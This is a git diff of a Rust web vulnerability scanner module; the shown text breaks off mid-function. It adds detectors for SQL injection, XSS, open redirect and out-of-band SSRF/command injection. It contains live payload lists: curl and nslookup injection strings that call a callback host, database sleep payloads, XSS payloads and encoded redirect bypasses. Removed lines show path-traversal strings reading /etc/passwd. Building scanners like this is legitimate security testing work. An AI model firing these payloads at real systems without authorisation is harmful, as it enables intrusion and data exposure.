@@ -1,61 +1,623 @@
 
+use std::collections::{HashMap, HashSet};
 use std::error::Error;
+use std::future::Future;
 use std::sync::{Arc, Mutex};
+use std::time::{Duration, Instant};
+use futures::future::{BoxFuture, FutureExt};
+use futures::stream::{self, StreamExt};
+use base64::Engine;
+use base64::engine::general_purpose::STANDARD;
+use once_cell::sync::{Lazy, OnceCell};
+use rand::Rng;
 use reqwest::Client;
-use tokio::{spawn, sync::Semaphore};
+use serde::Deserialize;
+use tokio::sync::{OwnedSemaphorePermit, Semaphore};
 use regex::Regex;
 use crate::outprint::Print;
 use crate::tofile;
+use crate::inject::{encode_value, Location, Point, Target};
+use crate::craw::Form;
+use crate::oob;
+use crate::pocscan;
+use crate::resource::{self, Resource};
+use crate::validate::{self, Format, Issue, Problem};
 
-trait Scan {
-    async fn fetch(&self, client: &Client, url: &str) -> Result<(), Box<dyn Error + Send + Sync>>;
+// 检测器不保存状态，同一实例可被任意多个请求并发调用
+trait Scan: Sync {
+    fn fetch(&self, client: &Client, target: &Target) -> impl Future<Output = Result<(), Box<dyn Error + Send + Sync>>> + Send;
 }
 
-async fn replace(url: &str, poc: &Vec<String>) -> Result<Vec<String>, Box<dyn Error + Send + Sync>> {
-    let re = Regex::new(r"([?&])([^=]+)=([^&]*)")?;
-    let mut urls = vec![];
+#[derive(Debug, Deserialize, Clone, Copy, PartialEq)]
+#[serde(rename_all = "kebab-case")]
+enum Encoding {
+    None,
+    Url,
+    DoubleUrl,
+    Base64,
+}
+
+impl Encoding {
+    fn apply(&self, payload: &str) -> String {
+        match self {
+            Encoding::None => payload.to_string(),
+            Encoding::Url => encode_value(payload),
+            Encoding::DoubleUrl => encode_value(&encode_value(payload)),
+            Encoding::Base64 => encode_value(&STANDARD.encode(payload)),
+        }
+    }
+}
+
+#[derive(Debug, Deserialize, Clone, Copy, PartialEq)]
+#[serde(rename_all = "kebab-case")]
+enum Position {
+    Replace,
+    Append,
+}
+
+fn default_position() -> Position {
+    Position::Replace
+}
+
+fn default_encodings() -> Vec<Encoding> {
+    vec![Encoding::Url]
+}
+
+// 响应中出现任意一个关键字或正则即命中
+#[derive(Debug, Deserialize, Clone, Default)]
+struct PayloadMatchers {
+    #[serde(default)]
+    words: Vec<String>,
+    #[serde(default)]
+    regex: Vec<String>,
+    #[serde(rename = "case-insensitive", default)]
+    case_insensitive: bool,
+    // 加载时编译好的 regex，无效的正则已被 lint 拒绝
+    #[serde(skip)]
+    compiled: Vec<Regex>,
+}
+
+impl PayloadMatchers {
+    // 返回响应中命中的关键字与正则
+    fn hits(&self, text: &str) -> Vec<String> {
+        let lower = text.to_lowercase();
+        let words = self.words.iter().filter(|w| {
+            if self.case_insensitive { lower.contains(&w.to_lowercase()) } else { text.contains(w.as_str()) }
+        });
+        let regex = self.compiled.iter().filter(|re| re.is_match(text)).map(|re| re.as_str());
+        words.map(|w| w.as_str()).chain(regex).map(String::from).collect()
+    }
+}
+
+// payloads.yaml 中的一组 payload 及其检测规则
+#[derive(Debug, Deserialize, Clone)]
+struct PayloadSet {
+    id: String,
+    category: String,
+    #[serde(default = "default_position")]
+    position: Position,
+    #[serde(default = "default_encodings")]
+    encodings: Vec<Encoding>,
+    payloads: Vec<String>,
+    matchers: PayloadMatchers,
+}
+
+impl PayloadSet {
+    fn lint(&self) -> Vec<Problem> {
+        let mut problems = vec![];
+        if self.category.trim().is_empty() {
+            problems.push(Problem::error("empty category").at("category:"));
+        }
+        if self.payloads.is_empty() {
+            problems.push(Problem::error("no payloads").at("payloads:"));
+        }
+        if self.encodings.is_empty() {
+            problems.push(Problem::error("no encodings").at("encodings:"));
+        }
+        if self.matchers.words.is_empty() && self.matchers.regex.is_empty() {
+            problems.push(Problem::error("matchers need at least one word or regex").at("matchers:"));
+        }
+        pocscan::lint_regexes(&self.matchers.regex, &mut problems);
+        problems
+    }
+}
+
+fn load_payloads(content: &str) -> (Vec<PayloadSet>, Vec<Issue>) {
+    let (mut sets, issues) = validate::load_entries(content, Format::Yaml, "payloads", |s: &PayloadSet| s.id.clone(), PayloadSet::lint, true);
+    for set in &mut sets {
+        set.matchers.compiled = set.matchers.regex.iter().filter_map(|r| Regex::new(r).ok()).collect();
+    }
+    (sets, issues)
+}
+
+/// 校验 payload 文件内容，返回有效条目数与问题列表
+pub(crate) fn validate_payloads(content: &str) -> (usize, Vec<Issue>) {
+    let (sets, issues) = load_payloads(content);
+    (sets.len(), issues)
+}
+
+static PAYLOAD_SETS: OnceCell<Vec<PayloadSet>> = OnceCell::new();
+
+fn payload_sets() -> &'static [PayloadSet] {
+    PAYLOAD_SETS.get_or_init(|| {
+        let content = match resource::load(Resource::Payloads) {
+            Ok(content) => content,
+            Err(e) => {
+                Print::errprint(format!("Failed to load payloads: {}", e).as_str());
+                return vec![];
+            }
+        };
+        let (sets, issues) = load_payloads(&content);
+        validate::report_skipped(&resource::source(Resource::Payloads), &issues);
+        sets
+    })
+}
+
+// 通用参数扫描：逐个参数发送 payload 集合，每个参数命中一次即停止
+struct ParamScan {
+    set: &'static PayloadSet,
+}
+
+// 变异响应中新出现（基线中没有）的特征，以及与基线的相似度
+struct Finding {
+    payload: String,
+    indicators: Vec<String>,
+    similarity: f64,
+}
+
+impl ParamScan {
+    // known 为基线响应中已存在的特征，文档、论坛等页面本身含有报错关键字时不会误报
+    async fn param(&self, client: &Client, target: &Target, point: &Point, baseline: &Page, known: &[String]) -> Option<Finding> {
+        let append = self.set.position == Position::Append;
+        for payload in &self.set.payloads {
+            for encoding in &self.set.encodings {
+                let mutated = point.inject(target, &encoding.apply(payload), append);
+                let Some(page) = load_page(client, &mutated).await else { continue };
+                // payload 被原样回显时不计入特征
+                let indicators: Vec<String> = self.set.matchers.hits(&page.body.replace(payload.as_str(), ""))
+                    .into_iter()
+                    .filter(|hit| !known.contains(hit))
+                    .collect();
+                if !indicators.is_empty() {
+                    let similarity = similarity(baseline, &page, &[payload]);
+                    return Some(Finding { payload: payload.clone(), indicators, similarity });
+                }
+            }
+        }
+        None
+    }
+}
+
+// 带外回连 payload，{http} 为回连 URL，{dns} 为回连域名（未配置 oob_domain 时跳过）
+const OOB_PAYLOADS: &[(&str, &str)] = &[
+    ("ssrf", "{http}"),
+    ("ssrf", "http://{dns}/"),
+    ("rce", "|curl {http}"),
+    ("rce", ";curl {http};"),
+    ("rce", "`curl {http}`"),
+    ("rce", "$(curl {http})"),
+    ("rce", "|nslookup {dns}"),
+    ("rce", "&nslookup {dns}&"),
+];
+
+// 布尔盲注：同一注入上下文下的真 / 假条件，{a}、{b} 为不同的随机数
+const BOOLEAN_PAIRS: &[(&str, &str, &str)] = &[
+    ("numeric", " AND {a}={a}", " AND {a}={b}"),
+    ("single-quote", "' AND '{a}'='{a}", "' AND '{a}'='{b}"),
+    ("double-quote", "\" AND \"{a}\"=\"{a}", "\" AND \"{a}\"=\"{b}"),
+];
+
+// 时间盲注：各数据库的延时函数，{n} 为延时秒数
+const TIME_PAYLOADS: &[(&str, &str)] = &[
+    ("MySQL", " AND SLEEP({n})"),
+    ("MySQL", "' AND SLEEP({n}) AND '1'='1"),
+    ("PostgreSQL", " AND 1=(SELECT 1 FROM PG_SLEEP({n}))"),
+    ("PostgreSQL", "';SELECT PG_SLEEP({n})--"),
+    ("MSSQL", " WAITFOR DELAY '0:0:{n}'--"),
+    ("MSSQL", "';WAITFOR DELAY '0:0:{n}'--"),
+    ("Oracle", " AND 1=DBMS_PIPE.RECEIVE_MESSAGE('a',{n})"),
+    ("Oracle", "' AND 1=DBMS_PIPE.RECEIVE_MESSAGE('a',{n}) AND '1'='1"),
+];
+
+const SLEEP_SECONDS: u64 = 5;
+// 响应相似度阈值，低于该值视为不同页面
+const SIMILARITY_THRESHOLD: f64 = 0.95;
+// 基线请求次数，用于判断页面是否稳定以及估计响应时间
+const BASELINE_SAMPLES: usize = 3;
+
+struct Page {
+    status: u16,
+    body: String,
+    elapsed: Duration,
+}
+
+async fn load_page(client: &Client, target: &Target) -> Option<Page> {
+    let start = Instant::now();
+    let res = target.request(client).send().await.ok()?;
+    let status = res.status().as_u16();
+    let body = res.text().await.ok()?;
+    Some(Page { status, body, elapsed: start.elapsed() })
+}
+
+// 按行比较两个响应，状态码不同时视为完全不同；payload 被回显时先去掉再比较
+fn similarity(a: &Page, b: &Page, strip: &[&str]) -> f64 {
+    if a.status != b.status {
+        return 0.0;
+    }
+    let clean = |body: &str| strip.iter().filter(|s| !s.is_empty()).fold(body.to_string(), |body, s| body.replace(s, ""));
+    let (a, b) = (clean(&a.body), clean(&b.body));
+    if a == b {
+        return 1.0;
+    }
+    let mut counts: HashMap<&str, i32> = HashMap::new();
+    for line in a.lines() {
+        *counts.entry(line).or_insert(0) += 1;
+    }
+    let mut common = 0;
+    for line in b.lines() {
+        if let Some(count) = counts.get_mut(line).filter(|c| **c > 0) {
+            *count -= 1;
+            common += 1;
+        }
+    }
+    let total = a.lines().count() + b.lines().count();
+    if total == 0 {
+        return 0.0;
+    }
+    2.0 * common as f64 / total as f64
+}
+
+// 基线响应时间的均值与标准差（秒）
+fn latency_stats(pages: &[Page]) -> (f64, f64) {
+    let times: Vec<f64> = pages.iter().map(|p| p.elapsed.as_secs_f64()).collect();
+    let mean = times.iter().sum::<f64>() / times.len() as f64;
+    let variance = times.iter().map(|t| (t - mean).powi(2)).sum::<f64>() / times.len() as f64;
+    (mean, variance.sqrt())
+}
+
+// 布尔盲注与时间盲注，逐个参数检测并报告注入方式
+struct BlindSql;
 
-    let captures: Vec<_> = re.captures_iter(url).collect();
-    for i in 0..captures.len() {
-        for p in poc {
-            let modified_url = re.replace_all(url, |caps: &regex::Captures| {
-                let key_to_replace = captures[i].get(2).unwrap().as_str();
-                if caps.get(2).unwrap().as_str() == key_to_replace {
-                    format!("{}{}={}", &caps[1], &caps[2], p)
-                } else {
-                    caps[0].to_string()
+impl BlindSql {
+    // 真条件与基线一致、假条件与基线不同，两轮随机数都成立才确认
+    async fn boolean(&self, client: &Client, target: &Target, point: &Point, baseline: &Page) -> Option<String> {
+        'pairs: for (context, truthy, falsy) in BOOLEAN_PAIRS {
+            for _ in 0..2 {
+                let (a, b) = {
+                    let mut rng = rand::thread_rng();
+                    let a: u32 = rng.gen_range(1000..10000);
+                    (a, a + rng.gen_range(1..1000))
+                };
+                let truthy = truthy.replace("{a}", &a.to_string()).replace("{b}", &b.to_string());
+                let falsy = falsy.replace("{a}", &a.to_string()).replace("{b}", &b.to_string());
+                let strip = [truthy.as_str(), falsy.as_str(), &encode_value(&truthy), &encode_value(&falsy)];
+                let Some(true_page) = load_page(client, &point.inject(target, &encode_value(&truthy), true)).await else {
+                    continue 'pairs;
+                };
+                if similarity(&true_page, baseline, &strip) < SIMILARITY_THRESHOLD {
+                    continue 'pairs;
                 }
-            });
-            urls.push(String::from(modified_url));
-        }
-    }
-    Ok(urls)
-}
-
-struct Sql;
-struct FileRead;
-// struct Rce;
-
-impl Scan for Sql {
-    async fn fetch(&self, client: &Client, url: &str) -> Result<(), Box<dyn Error + Send + Sync>> {
-        let res = client.get(url).send().await?;
-        let vul = vec![
-            "SQL syntax".to_string(),
-            "PostgreSQL".to_string(),
-            "SQL Server".to_string(),
-            "Oracle error".to_string(),
-            "DB2 SQL error".to_string(),
-            "Syntax error".to_string(),
-            "SQLSTATE".to_string(),
-        ];
-        let text = res.text().await?;
+                let Some(false_page) = load_page(client, &point.inject(target, &encode_value(&falsy), true)).await else {
+                    continue 'pairs;
+                };
+                if similarity(&false_page, baseline, &strip) >= SIMILARITY_THRESHOLD || similarity(&false_page, &true_page, &strip) >= SIMILARITY_THRESHOLD {
+                    continue 'pairs;
+                }
+            }
+            return Some(format!("boolean-based blind ({})", context));
+        }
+        None
+    }
+
+    // 延时 payload 两次都超出基线，且延时为 0 时不超出才确认
+    async fn time(&self, client: &Client, target: &Target, point: &Point, (mean, std): (f64, f64)) -> Option<String> {
+        let delayed = |page: &Option<Page>| {
+            page.as_ref()
+                .map(|p| {
+                    let t = p.elapsed.as_secs_f64();
+                    t >= mean + SLEEP_SECONDS as f64 * 0.8 && t >= mean + 4.0 * std
+                })
+                .unwrap_or(false)
+        };
+        for (dialect, template) in TIME_PAYLOADS {
+            let sleep = point.inject(target, &encode_value(&template.replace("{n}", &SLEEP_SECONDS.to_string())), true);
+            if !delayed(&load_page(client, &sleep).await) {
+                continue;
+            }
+            let no_sleep = load_page(client, &point.inject(target, &encode_value(&template.replace("{n}", "0")), true)).await;
+            let fast = no_sleep.as_ref().map(|p| p.elapsed.as_secs_f64() < mean + SLEEP_SECONDS as f64 * 0.5).unwrap_or(false);
+            if fast && delayed(&load_page(client, &sleep).await) {
+                return Some(format!("time-based blind ({})", dialect));
+            }
+        }
+        None
+    }
+}
+
+// 反射型 XSS：先注入随机标记定位回显位置，再按上下文发送对应 payload 并确认未被编码
+#[derive(Debug, Clone, PartialEq)]
+enum XssContext {
+    Html,
+    Comment,
+    // textarea / title 中的内容不会被解析为标签
+    Rcdata(&'static str),
+    Attribute(Option<char>),
+    // href / src 等属性值开头，可使用 javascript: 伪协议
+    Url(Option<char>),
+    Script,
+    ScriptString(char),
+}
+
+impl std::fmt::Display for XssContext {
+    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
+        match self {
+            XssContext::Html => write!(f, "html text"),
+            XssContext::Comment => write!(f, "html comment"),
+            XssContext::Rcdata(tag) => write!(f, "{} text", tag),
+            XssContext::Attribute(_) => write!(f, "tag attribute"),
+            XssContext::Url(_) => write!(f, "url attribute"),
+            XssContext::Script => write!(f, "script"),
+            XssContext::ScriptString(_) => write!(f, "script string"),
+        }
+    }
+}
+
+const URL_ATTRIBUTES: &[&str] = &["href", "src", "action", "formaction", "data"];
+
+impl XssContext {
+    // {c} 为本次请求的随机标记，确认时要求 payload 原样出现在响应中
+    fn payloads(&self) -> Vec<String> {
+        let quote = |q: &Option<char>| q.map(String::from).unwrap_or_default();
+        match self {
+            XssContext::Html => vec!["{c}<svg/onload=alert(1)>".to_string(), "{c}<img src=x onerror=alert(1)>".to_string()],
+            XssContext::Comment => vec!["{c}--><svg/onload=alert(1)>".to_string()],
+            XssContext::Rcdata(tag) => vec![format!("{{c}}</{}><svg/onload=alert(1)>", tag)],
+            XssContext::Attribute(q) => vec![
+                format!("{{c}}{}><svg/onload=alert(1)>", quote(q)),
+                format!("{{c}}{} autofocus onfocus=alert(1) x={}", quote(q), quote(q)),
+            ],
+            XssContext::Url(q) => vec![
+                "javascript:alert(1)//{c}".to_string(),
+                format!("{{c}}{}><svg/onload=alert(1)>", quote(q)),
+            ],
+            XssContext::Script => vec!["{c};alert(1)//".to_string(), "{c}</script><svg/onload=alert(1)>".to_string()],
+            XssContext::ScriptString(q) => vec![format!("{{c}}{};alert(1)//", q), "{c}</script><svg/onload=alert(1)>".to_string()],
+        }
+    }
+
+    // javascript: 需要位于属性值开头才有效
+    fn confirmed(&self, body: &str, payload: &str) -> bool {
+        match self {
+            XssContext::Url(q) if payload.starts_with("javascript:") => {
+                body.contains(&format!("={}{}", q.map(String::from).unwrap_or_default(), payload))
+            }
+            _ => body.contains(payload),
+        }
+    }
+}
+
+// 判断 script 代码末尾是否处于字符串中
+fn script_context(code: &str) -> XssContext {
+    let mut quote: Option<char> = None;
+    let mut escaped = false;
+    for c in code.chars() {
+        match quote {
+            Some(_) if escaped => escaped = false,
+            Some(_) if c == '\\' => escaped = true,
+            Some(q) if c == q => quote = None,
+            Some(_) => {}
+            None if c == '"' || c == '\'' || c == '`' => quote = Some(c),
+            None => {}
+        }
+    }
+    quote.map(XssContext::ScriptString).unwrap_or(XssContext::Script)
+}
+
+// 判断标签内的位置：属性值是否带引号，是否位于 URL 类属性值开头
+fn tag_context(tag: &str) -> XssContext {
+    let mut quote: Option<char> = None;
+    let mut last_eq: Option<usize> = None;
+    let mut value_start: Option<usize> = None;
+    for (i, c) in tag.char_indices() {
+        match quote {
+            Some(q) if c == q => {
+                quote = None;
+                value_start = None;
+            }
+            Some(_) => {}
+            None if c == '=' => {
+                last_eq = Some(i);
+                value_start = Some(i + 1);
+            }
+            None if (c == '"' || c == '\'') && value_start.map(|s| tag[s..i].trim().is_empty()).unwrap_or(false) => {
+                quote = Some(c);
+                value_start = Some(i + 1);
+            }
+            None if c.is_whitespace() && value_start.map(|s| !tag[s..i].trim().is_empty()).unwrap_or(false) => {
+                value_start = None;
+            }
+            None => {}
+        }
+    }
+    let (Some(eq), Some(start)) = (last_eq, value_start) else {
+        return XssContext::Attribute(None);
+    };
+    let name = tag[..eq].trim_end().rsplit(|c: char| c.is_whitespace()).next().unwrap_or_default().to_ascii_lowercase();
+    if URL_ATTRIBUTES.contains(&name.as_str()) && tag[start..].trim().is_empty() {
+        XssContext::Url(quote)
+    } else {
+        XssContext::Attribute(quote)
+    }
+}
+
+fn context_at(body: &str, pos: usize) -> XssContext {
+    let before = &body[..pos];
+    let lower = before.to_ascii_lowercase();
+    let unclosed = |open: &str, close: &str| lower.rfind(open).filter(|&i| !lower[i..].contains(close));
+    if unclosed("<!--", "-->").is_some() {
+        return XssContext::Comment;
+    }
+    if let Some(open) = unclosed("<script", "</script") {
+        if let Some(end) = before[open..].find('>') {
+            return script_context(&before[open + end + 1..]);
+        }
+    }
+    for tag in ["textarea", "title"] {
+        if let Some(open) = unclosed(&format!("<{}", tag), &format!("</{}", tag)) {
+            if before[open..].contains('>') {
+                return XssContext::Rcdata(tag);
+            }
+        }
+    }
+    match (before.rfind('<'), before.rfind('>')) {
+        (Some(lt), gt) if gt.map(|gt| lt > gt).unwrap_or(true) => tag_context(&before[lt..]),
+        _ => XssContext::Html,
+    }
+}
+
+// 标记在响应中每处回显的上下文（去重）
+fn reflection_contexts(body: &str, canary: &str) -> Vec<XssContext> {
+    let mut contexts = vec![];
+    for (pos, _) in body.match_indices(canary) {
+        let context = context_at(body, pos);
+        if !contexts.contains(&context) {
+            contexts.push(context);
+        }
+    }
+    contexts
+}
+
+fn new_canary() -> String {
+    let mut rng = rand::thread_rng();
+    let suffix: String = (0..8).map(|_| (b'a' + rng.gen_range(0..26)) as char).collect();
+    format!("rend{}", suffix)
+}
+
+struct Xss;
+
+impl Xss {
+    async fn param(&self, client: &Client, target: &Target, point: &Point) -> Vec<(XssContext, String)> {
+        let canary = new_canary();
+        let Some(page) = load_page(client, &point.inject(target, &encode_value(&canary), false)).await else {
+            return vec![];
+        };
+        let mut found = vec![];
+        for context in reflection_contexts(&page.body, &canary) {
+            for template in context.payloads() {
+                let payload = template.replace("{c}", &new_canary());
+                let Some(page) = load_page(client, &point.inject(target, &encode_value(&payload), false)).await else {
+                    continue;
+                };
+                if context.confirmed(&page.body, &payload) {
+                    found.push((context, payload));
+                    break;
+                }
+            }
+        }
+        found
+    }
+}
+
+// 开放重定向：外部域名使用保留域名，{host} 为目标主机；payload 为 URL 中的写法（含编码绕过变体）
+const REDIRECT_HOST: &str = "rend-redirect.example";
+const REDIRECT_PAYLOADS: &[&str] = &[
+    "https://{evil}/",
+    "//{evil}/",
+    "/%5C{evil}/",
+    "%5C%5C{evil}/",
+    "/%2F{evil}/",
+    "%252F%252F{evil}/",
+    "https://{host}.{evil}/",
+    "https://{host}@{evil}/",
+];
+
+// 常见的跳转参数名（小写、去掉 - 和 _ 后比较）
+const REDIRECT_PARAMS: &[&str] = &[
+    "redirect", "redirecturl", "redirecturi", "redir", "url", "uri", "next", "return", "returnurl", "returnto",
+    "goto", "target", "dest", "destination", "continue", "forward", "callback", "jump", "to", "out", "link",
+    "backurl", "service", "successurl",
+];
+
+// 参数名像跳转参数，或原值本身是 URL / 路径时才检测
+fn is_redirect_point(target: &Target, point: &Point) -> bool {
+    if !matches!(point.location, Location::Query | Location::Form | Location::Json) {
+        return false;
+    }
+    let name: String = point.name.to_lowercase().chars().filter(|c| c.is_ascii_alphanumeric()).collect();
+    let value = point.original(target);
+    REDIRECT_PARAMS.contains(&name.as_str()) || value.starts_with("http") || value.starts_with('/')
+}
+
+// 跳转地址相对请求 URL 解析后是否指向外部域名
+fn redirects_away(base: &str, location: &str) -> bool {
+    let location = location.trim().replace("&amp;", "&");
+    reqwest::Url::parse(base)
+        .and_then(|base| base.join(&location))
+        .ok()
+        .and_then(|url| url.host_str().map(|h| h == REDIRECT_HOST || h.ends_with(&format!(".{}", REDIRECT_HOST))))
+        .unwrap_or(false)
+}
+
+static META_REFRESH: Lazy<Regex> = Lazy::new(|| {
+    Regex::new(r#"(?i)<meta[^>]+http-equiv\s*=\s*["']?refresh["']?[^>]*content\s*=\s*["']?\s*\d*\s*;?\s*url\s*=\s*([^"'>\s]+)"#).unwrap()
+});
+static JS_LOCATION: Lazy<Regex> = Lazy::new(|| {
+    Regex::new(r#"(?i)location(?:\.href)?\s*=\s*["']([^"']+)["']|location\.(?:replace|assign)\(\s*["']([^"']+)["']"#).unwrap()
+});
+
+// 依次检查 Location 头、meta refresh 与 JS location 赋值，返回跳转方式
+fn redirect_sink(base: &str, status: u16, location: Option<&str>, body: &str) -> Option<&'static str> {
+    if (300..400).contains(&status) && location.map(|l| redirects_away(base, l)).unwrap_or(false) {
+        return Some("Location header");
+    }
+    if META_REFRESH.captures_iter(body).any(|caps| redirects_away(base, &caps[1])) {
+        return Some("meta refresh");
+    }
+    if JS_LOCATION.captures_iter(body).any(|caps| redirects_away(base, caps.get(1).or(caps.get(2)).map(|m| m.as_str()).unwrap_or_default())) {
+        return Some("javascript location");
+    }
+    None
+}
+
+// 使用不跟随跳转的客户端，直接检查首个响应
+struct Redirect;
+
+impl Redirect {
+    async fn param(&self, client: &Client, target: &Target, point: &Point) -> Option<(&'static str, String)> {
+        let host = reqwest::Url::parse(&target.url).ok()?.host_str()?.to_string();
+        for template in REDIRECT_PAYLOADS {
+            let payload = template.replace("{evil}", REDIRECT_HOST).replace("{host}", &host);
+            let mutated = point.inject(target, &payload, false);
+            let Ok(res) = mutated.request(client).send().await else { continue };
+            let status = res.status().as_u16();
+            let location = res.headers().get(reqwest::header::LOCATION).and_then(|v| v.to_str().ok()).map(String::from);
+            let Ok(body) = res.text().await else { continue };
+            if let Some(sink) = redirect_sink(&mutated.url, status, location.as_deref(), &body) {
+                return Some((sink, payload));
+            }
+        }
+        None
+    }
+}
+
+// 带外检测只负责发送请求，结果由回连监听报告
+struct Oob;
+
+impl Scan for ParamScan {
+    async fn fetch(&self, client: &Client, target: &Target) -> Result<(), Box<dyn Error + Send + Sync>> {
+        let baseline = load_page(client, target).await.ok_or("Baseline request failed")?;
+        let known = self.set.matchers.hits(&baseline.body);
         let mut res_vulns = vec![];
-        vul.iter().for_each(|v| {
-            if text.contains(v) {
-                Print::vulnprint(url);
-                res_vulns.push(url.to_string());
+        for point in target.points() {
+            if let Some(finding) = self.param(client, target, &point, &baseline, &known).await {
+                let line = format!(
+                    "{} | {} | {} ({}) | payload: {} | indicators: {} | similarity: {:.2}",
+                    target, point, self.set.category, self.set.id, finding.payload, finding.indicators.join(", "), finding.similarity
+                );
+                Print::vulnprint(&line);
+                res_vulns.push(line);
             }
-        });
+        }
         if !res_vulns.is_empty() {
             tofile::vuln_save_to_file("vulns.txt",&res_vulns)?;
         }
@@ -63,21 +625,16 @@ impl Scan for Sql {
     }
 }
 
-impl Scan for FileRead {
-    async fn fetch(&self, client: &Client, url: &str) -> Result<(), Box<dyn Error + Send + Sync>> {
-        let res = client.get(url).send().await?;
-        let vul = vec![
-            "root:x".to_string(),
-            "for 16-bit".to_string(),
-        ];
+impl Scan for Redirect {
+    async fn fetch(&self, client: &Client, target: &Target) -> Result<(), Box<dyn Error + Send + Sync>> {
         let mut res_vulns = vec![];
-        let text = res.text().await?;
-        vul.iter().for_each(|v| {
-            if text.contains(v) {
-                Print::vulnprint(url);
-                res_vulns.push(url.to_string());
+        for point in target.points().iter().filter(|p| is_redirect_point(target, p)) {
+            if let Some((sink, payload)) = self.param(client, target, point).await {
+                let line = format!("{} | {} | Open redirect via {} | payload: {}", target, point, sink, payload);
+                Print::vulnprint(&line);
+                res_vulns.push(line);
             }
-        });
+        }
         if !res_vulns.is_empty() {
             tofile::vuln_save_to_file("vulns.txt",&res_vulns)?;
         }
@@ -85,102 +642,510 @@ impl Scan for FileRead {
     }
 }
 
-// impl Scan for Rce {
-//     async fn fetch(&self, client: &Client, url: &str) -> Result<(), Box<dyn Error + Send + Sync>> {
-//         let res = client.get(url).send().await?;
-//         let vul = vec![
-//             "root:x".to_string(),
-//             "16-bit".to_string(),
-//         ];
-//         let text = res.text().await?;
-//         vul.iter().for_each(|v| {
-//             if text.contains(v) {
-//                 ResPrint::vulnprint(url);
-//                 // println!("{}", url);
-//             }
-//         });
-//         Ok(())
-//     }
-// }
-
-async fn scan_urls_with_semaphore<S: Scan + Sync + Send + 'static>(
-    scanner: Arc<Mutex<S>>,
-    client: Arc<Client>,
-    semaphore: Arc<Semaphore>,
-    urls: Vec<String>,
-) -> Result<(), Box<dyn Error + Send + Sync>> {
-    let mut tasks = vec![];
-
-    for url in urls {
-        let permit = semaphore.clone().acquire_owned().await?;
-        let scanner = scanner.clone();
-        let client = client.clone();
+// 每个注入点、每个 payload 使用独立 token，回连时可定位到具体的请求与注入点
+impl Scan for Oob {
+    async fn fetch(&self, client: &Client, target: &Target) -> Result<(), Box<dyn Error + Send + Sync>> {
+        let oob = oob::listener().ok_or("OOB listener not running")?;
+        for point in target.points() {
+            for (kind, template) in OOB_PAYLOADS {
+                if template.contains("{dns}") && oob.dns_name("").is_none() {
+                    continue;
+                }
+                let token = oob.register(kind, &target.to_string(), &point.to_string());
+                let payload = template
+                    .replace("{http}", &oob.http_url(&token))
+                    .replace("{dns}", &oob.dns_name(&token).unwrap_or_default());
+                let _ = point.inject(target, &encode_value(&payload), false).request(client).send().await;
+            }
+        }
+        Ok(())
+    }
+}
 
-        // 使用 block_in_place 让阻塞操作在同步线程中执行
-        let task = spawn(async move {
-            // 使用 block_in_place 在一个同步线程中进行锁操作
-            tokio::task::block_in_place(move || {
-                let scanner = scanner.lock().unwrap();
-                // 在锁内执行任务
-                let _ = tokio::runtime::Handle::current().block_on(scanner.fetch(client.as_ref(), &url));
-            });
-            drop(permit);
-        });
+impl Scan for BlindSql {
+    async fn fetch(&self, client: &Client, target: &Target) -> Result<(), Box<dyn Error + Send + Sync>> {
+        let mut baseline = vec![];
+        for _ in 0..BASELINE_SAMPLES {
+            baseline.push(load_page(client, target).await.ok_or("Baseline request failed")?);
+        }
+        // 基线本身不稳定（随机内容、时间戳等）时不做布尔判断
+        let stable = baseline.windows(2).all(|w| similarity(&w[0], &w[1], &[]) >= SIMILARITY_THRESHOLD);
+        let stats = latency_stats(&baseline);
 
-        tasks.push(task);
+        let mut res_vulns = vec![];
+        for point in target.points() {
+            let mut technique = None;
+            if stable {
+                technique = self.boolean(client, target, &point, &baseline[0]).await;
+            }
+            if technique.is_none() {
+                technique = self.time(client, target, &point, stats).await;
+            }
+            if let Some(technique) = technique {
+                let line = format!("{} | {} | SQL injection, {}", target, point, technique);
+                Print::vulnprint(&line);
+                res_vulns.push(line);
+            }
+        }
+        if !res_vulns.is_empty() {
+            tofile::vuln_save_to_file("vulns.txt",&res_vulns)?;
+        }
+        Ok(())
     }
+}
 
-    // 等待所有任务完成
-    for task in tasks {
-        task.await.unwrap();
+impl Scan for Xss {
+    async fn fetch(&self, client: &Client, target: &Target) -> Result<(), Box<dyn Error + Send + Sync>> {
+        let mut res_vulns = vec![];
+        for point in target.points() {
+            for (context, payload) in self.param(client, target, &point).await {
+                let line = format!("{} | {} | XSS, reflected in {} | payload: {}", target, point, context, payload);
+                Print::vulnprint(&line);
+                res_vulns.push(line);
+            }
+        }
+        if !res_vulns.is_empty() {
+            tofile::vuln_save_to_file("vulns.txt",&res_vulns)?;
+        }
+        Ok(())
     }
+}
 
-    Ok(())
+// 单个主机同时进行的请求上限，--threads 再大也不会压垮同一目标
+const PER_HOST_LIMIT: usize = 8;
+
+// 按 host:port 分配信号量，限制每个目标的并发
+struct HostLimits {
+    limit: usize,
+    hosts: Mutex<HashMap<String, Arc<Semaphore>>>,
+}
+
+impl HostLimits {
+    fn new(limit: usize) -> Self {
+        HostLimits { limit: limit.max(1), hosts: Mutex::new(HashMap::new()) }
+    }
+
+    async fn acquire(&self, url: &str) -> Option<OwnedSemaphorePermit> {
+        let host = reqwest::Url::parse(url).ok().and_then(|u| {
+            u.host_str().map(|h| format!("{}:{}", h, u.port_or_known_default().unwrap_or_default()))
+        })?;
+        let semaphore = self.hosts.lock().unwrap()
+            .entry(host)
+            .or_insert_with(|| Arc::new(Semaphore::new(self.limit)))
+            .clone();
+        semaphore.acquire_owned().await.ok()
+    }
 }
 
-pub async fn vulnmain(threads:usize,client: Client,urls:Vec<String>) -> Result<(), Box<dyn Error + Send + Sync>> {
-    let rce_payloads = vec![
-        r#"type %windir%\win.ini || cat /etc/passwd"#.to_string(),
-    ];
-    let sql_payloads = vec![
-        "%E9%8E%88%27%22%5C%28".to_string(),
-    ];
-    let file_read_payloads = vec![
-        r#"\c$\windows\win.ini"#.to_string(),
-        "/.%2e/.%2e/.%2e/.%2e/.%2e/.%2e/.%2e/.%2e/etc/passwd".to_string(),
-        "/.%2e/.%2e/.%2e/.%2e/.%2e/.%2e/.%2e/.%2e/C:/windows/win.ini".to_string(),
-    ];
-    let ssrf_payloads = vec![
-        "file:///etc/passwd".to_string(),
-        "file:///C:/windows/win.ini".to_string(),
-    ];
-    let mut ssrf_urls = vec![];
-    let mut sql_urls = vec![];
-    let mut file_urls = vec![];
-    let mut rce_urls = vec![];
-    for url in &urls {
-        if !url.contains(".js?"){
-            ssrf_urls.extend(replace(url, &rce_payloads.clone()).await?);
